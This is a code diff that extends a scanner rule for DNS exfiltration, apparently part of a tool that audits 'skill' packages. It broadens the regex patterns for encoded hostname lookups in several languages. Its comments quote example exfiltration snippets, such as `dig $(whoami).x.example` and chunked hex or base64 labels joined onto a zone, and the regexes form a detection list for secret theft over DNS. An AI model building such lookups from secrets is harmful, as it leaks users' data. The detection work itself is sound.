@@ -2,7 +2,7 @@ import type { SkillSource } from '../../core/types'
 import type { RawFinding, RuleModule } from '../types'
 import { excerptAt } from '../excerpt'
 import { codeStatements, markQuoted, unitsOf } from './code-units'
-import { hasSource, SECRET_NAME } from './leak-sources'
+import { hasSource, joinedPaths, SECRET_NAME } from './leak-sources'
 
 /**
  * DNS exfiltration: a lookup of a hostname built from data (`dig $(whoami).x.example`), which leaves through
@@ -42,11 +42,12 @@ const LOOKUP_ANY = new RegExp(
   + String.raw`|Resolv::DNS\.new\.\w+)\s*\(\s*`
   + String.raw`(?:fmt\.Sprintf\(\s*|String\.format\(\s*)?)`
   // An interpolation may slice or index what it reads (`f"{hexd[i:i+60]}."`, `` `${parts[n]}.` ``).
-  + String.raw`(?:f?["'\`](?:\$\{[^{}\n]{1,40}\}|\$\w+|\{[^{}\n]{1,40}\}|%[sdxv]|#\{[^{}\n]{1,40}\}`
+  // C#'s `$"{...}."` interpolates as Python's `f"{...}."` does.
+  + String.raw`(?:[f$]?["'\`](?:\$\{[^{}\n]{1,40}\}|\$\w+|\{[^{}\n]{1,60}\}|%[sdxv]|#\{[^{}\n]{1,40}\}`
   // Julia's `"$(expr)."`, nested calls included.
   + String.raw`|\$\((?:[^()\n]|\((?:[^()\n]|\([^()\n]*\))*\)){1,60}\))\.`
   // A label joined by `+`, or by R's `paste0(chunk, ".zone")` and its like.
-  + String.raw`|\w+\s*[+,]\s*["']\.`
+  + String.raw`|(?:\w+|\))\s*[+,]\s*["']\.`
   // Perl's `join('.', $label, ...)`; a batch file's `%L%.zone` (or a slice of a variable, `%S:~0,50%`).
   + String.raw`|join\s*\(\s*["']\.["']\s*,\s*\$\w+|%\w+(?::~\d+,\d+)?%\.)`,
 )
@@ -54,7 +55,8 @@ const LOOKUP_ANY = new RegExp(
 const LABEL_CODING = new RegExp(
   String.raw`\b(?:base64|b64encode|b32encode|base32|xxd|hexdump|hexlify|EncodeToString|unpack1?\(\s*['"]H`
   + String.raw`|fold\s+-w|\.hex\(\)|ToString\(\s*['"]x2['"]\s*\)|ToBase64String|bytes2hex|charToRaw|base64encode`
-  + String.raw`|Iterators\.partition|chunked)|\[\s*\w+\s*:\s*\w+\s*\+\s*\d+\s*\]`
+  + String.raw`|Iterators\.partition|chunked|ToHexString|getUrlEncoder|getEncoder|%02x)`
+  + String.raw`|\[\s*\w+\s*:\s*\w+\s*\+\s*\d+\s*\]`
   // A batch slice (`%S:~0,50%`) and Perl's four-argument `substr($hex, 0, 56, '')` cut labels too.
   + String.raw`|%\w+:~\d+,\d+%|\bsubstr\s*\(\s*\$\w+\s*,\s*0\s*,\s*\d+\s*,\s*''\s*\)`
   // A cut into label-sized pieces by a regex (`[regex]::Matches($tag, '.{1,50}')`, `re.findall('.{1,60}', s)`).
@@ -88,7 +90,7 @@ function encodedLookups(skill: SkillSource): RawFinding[] {
       continue
     const m = LOOKUP_ANY.exec(unit.lines[i]!)!
     const text = unit.lines.join('\n')
-    if (!LABEL_CODING.test(text) || !(hasSource(text) || namedSecretRead(text)))
+    if (!LABEL_CODING.test(text) || !(hasSource(joinedPaths(text)) || namedSecretRead(text)))
       continue
     out.push({
       rule: 'dns_exfiltration',
@@ -204,7 +206,9 @@ export const dnsExfiltration: RuleModule = {
       anchor: 'LookupHost|LookupIP|LookupTXT|LookupAddr|LookupCNAME|GetHostEntry|GetHostAddresses|getByName|getaddress',
       re: new RegExp(
         String.raw`\b(?:Lookup(?:Host|IP|TXT|Addr|CNAME)|GetHost(?:Entry|Addresses)|getByName|getaddress)\s*\(`
-        + String.raw`[^\n]{0,120}?(?:\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']|Sprintf\(\s*"%[sxv]\.[\w.-]+")`,
+        // A label joined on with `+ "." +` (`enc.substring(i, j) + "." + i + "." + zone`) is built from data too.
+        + String.raw`[^\n]{0,120}?(?:\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']|Sprintf\(\s*"%[sxv]\.[\w.-]+"`
+        + String.raw`|\)\s*\+\s*["']\.["']\s*\+)`,
       ),
       langs: ['text', 'js', 'py', 'sh'],
       view: 'noComments',
